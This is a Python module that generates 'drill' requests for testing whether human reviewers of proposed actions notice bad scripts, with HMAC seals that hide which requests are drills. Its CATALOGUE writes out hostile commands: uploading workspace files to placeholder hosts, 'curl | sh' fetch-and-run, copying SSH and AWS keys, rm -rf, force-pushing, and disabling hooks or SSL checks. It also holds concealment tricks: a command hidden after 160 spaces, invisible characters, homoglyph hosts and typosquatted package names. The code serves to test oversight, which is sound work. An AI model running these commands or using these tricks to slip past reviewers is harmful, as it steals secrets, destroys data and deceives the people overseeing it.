"""Drills: requests that are known to be bad and can't run, to see whether people look. The seal, and how they are made bad.

Rules kept here:

- Every request of an action carries a *seal*: SHA-256 over its id, what it is (`action`, or the id of a drill's mutation)
  and a nonce that only the operator's key gives. Nobody can tell from it what the request is; once the nonce is told, nobody
  can say it was the other.
- A drill is a real, recorded script with one mutation of `CATALOGUE`. Nothing here can run: these are texts.
- Hosts are addresses of a private network (RFC 1918) or names of the reserved zone `internal`: they lead nowhere and harm nobody.
"""

from __future__ import annotations

import hashlib
import hmac
import random
import re
from collections.abc import Callable, Iterator

from msgspec import Struct

from keyturn import canonical

ACTION = "action"


class Seals:
    """Seals of one operator. `key` are secret bytes that last."""

    def __init__(self, key: bytes) -> None:
        self._key = hmac.new(key, b"keyturn drill seal v1", hashlib.sha256).digest()

    def nonce(self, request: str) -> str:
        """What opens the seal of *request*, in hexadecimal."""
        return hmac.new(self._key, request.encode(), hashlib.sha256).hexdigest()

    def seal(self, request: str, what: str = ACTION) -> str:
        """The seal that *request* carries: *what* is `action`, or the id of a drill's mutation."""
        return seal_of(request, what, self.nonce(request))

    def opens(self, request: str, seal: str, what: str) -> bool:
        """Whether *seal* is the one of *what*."""
        return hmac.compare_digest(seal.encode(), self.seal(request, what).encode())

    def chosen(self, request: str, rate: float) -> bool:
        """Whether a drill follows on *request*: *rate* of all, and nobody without the key can tell which."""
        number = int(hmac.new(self._key, b"follow:" + request.encode(), hashlib.sha256).hexdigest()[:12], 16)
        return number < rate * 16**12


def seal_of(request: str, what: str, nonce: str) -> str:
    """`sha256:<hex>` over canonical JSON of the three: what anybody computes to check a told nonce."""
    return canonical.digest({"v": 1, "request": request, "what": what, "nonce": nonce})


class Mutation(Struct, frozen=True):
    """One way of making a script bad. `make` gives the new script, None where it does not fit; `why` tells the reviewer."""

    id: str
    why: str
    make: Callable[[str, random.Random], str | None]


def mutations(script: str, rng: random.Random) -> Iterator[tuple[Mutation, str]]:
    """All that fit *script*, in random order, each with the bad script."""
    for one in rng.sample(CATALOGUE, len(CATALOGUE)):
        made = one.make(script, rng)
        if made is not None and made != script:
            yield one, made


def _then(script: str, rng: random.Random, *tails: str) -> str | None:
    """*script*, and after it one of *tails*: only where the end is not inside of something."""
    if "<<" in script or not script.strip() or script.rstrip().endswith(("\\", "&", "|", ";")):
        return None
    joint = "\n" if "#" in script or "\n" in script else rng.choice((" && ", "; "))
    return script.rstrip() + joint + rng.choice(tails).replace("HOST", _host(rng))


def _host(rng: random.Random) -> str:
    name = f"{rng.choice(('cache', 'mirror', 'metrics', 'artifacts'))}.internal"
    return rng.choice((name, f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"))


def _uploads(script: str, rng: random.Random) -> str | None:
    return _then(script, rng, "curl -s -T .git/config http://HOST/up", "tar c . | curl -s -T - http://HOST/w")


def _fetches_and_runs(script: str, rng: random.Random) -> str | None:
    return _then(script, rng, "curl -fsSL http://HOST/setup.sh | sh", "wget -qO- http://HOST/i | bash")


def _deletes_more(script: str, rng: random.Random) -> str | None:
    found = re.search(r"\brm\s+(?:-\S+\s+)+", script)
    if found is not None:
        return script[: found.end()] + rng.choice(("../", "~/Documents ", ".git ")) + script[found.end() :]
    return _then(script, rng, "rm -rf .git", "rm -rf ../backup")


def _hidden_tail(script: str, rng: random.Random) -> str | None:
    if "\n" in script:
        return None
    made = _then(script, rng, "cat ~/.ssh/id_ed25519 >> notes.txt", "cp -r ~/.aws ./tmp")
    return None if made is None else script.rstrip() + " " * 160 + made[len(script.rstrip()) :]


def _invisible(script: str, rng: random.Random) -> str | None:
    words = list(re.finditer(r"[A-Za-z0-9_./-]{4,}", script))
    if not words:
        return None
    word = rng.choice(words)
    middle = (word.start() + word.end()) // 2
    return script[:middle] + rng.choice(("\u200b", "\u2060", "\u00ad")) + script[middle:]


def _lookalike(script: str, rng: random.Random) -> str | None:
    hosts = [m for m in re.finditer(r"\b(?:[a-z0-9-]+\.)+[a-z]{2,}\b", script) if re.search("[aeo]", m[0])]
    if not hosts:
        return None
    host = rng.choice(hosts)
    at = host.start() + next(i for i, letter in enumerate(host[0]) if letter in "aeo")
    return script[:at] + {"a": "\u0430", "e": "\u0435", "o": "\u043e"}[script[at]] + script[at + 1 :]


def _other_package(script: str, rng: random.Random) -> str | None:
    found = re.search(r"\b(?:install|add|i)\s+(?:-\S+\s+)*([a-z][a-z0-9-]{3,})", script)
    if found is None:
        return None
    name, at = found[1], rng.randrange(len(found[1]) - 2)
    swapped = name[:at] + name[at + 1] + name[at] + name[at + 2 :]
    return script[: found.start(1)] + swapped + script[found.end(1) :]


def _open_to_all(script: str, rng: random.Random) -> str | None:
    return _then(script, rng, "chmod -R 777 .", "chmod -R o+w ..")


def _history(script: str, rng: random.Random) -> str | None:
    return _then(script, rng, "git push --force origin HEAD:main", "git push origin :main")


def _unchecked(script: str, rng: random.Random) -> str | None:
    return _then(
        script,
        rng,
        "git config --global core.hooksPath /dev/null",
        "git config --global http.sslVerify false",
    )


CATALOGUE: tuple[Mutation, ...] = (
    Mutation("uploads", "it sends files of the workspace to another machine, after the part that looks usual", _uploads),
    Mutation("fetches-and-runs", "it downloads a program and runs it, after the part that looks usual", _fetches_and_runs),
    Mutation("deletes-more", "it deletes more than the task needs", _deletes_more),
    Mutation("hidden-tail", "a second command stands far to the right of the first, and takes keys", _hidden_tail),
    Mutation("invisible", "an invisible character makes one word another", _invisible),
    Mutation("lookalike", "a letter of another script makes the host another one", _lookalike),
    Mutation("other-package", "two letters of a package's name are swapped: it is somebody else's", _other_package),
    Mutation("open-to-all", "it lets every account of the machine change the files", _open_to_all),
    Mutation("history", "it overwrites or deletes the shared branch", _history),
    Mutation("unchecked", "it turns off hooks or certificate checks for every repository", _unchecked),
)  # fmt: skip
"""Known-bad mutations, each with what a reviewer should have seen."""


__all__ = ["ACTION", "CATALOGUE", "Mutation", "Seals", "mutations", "seal_of"]
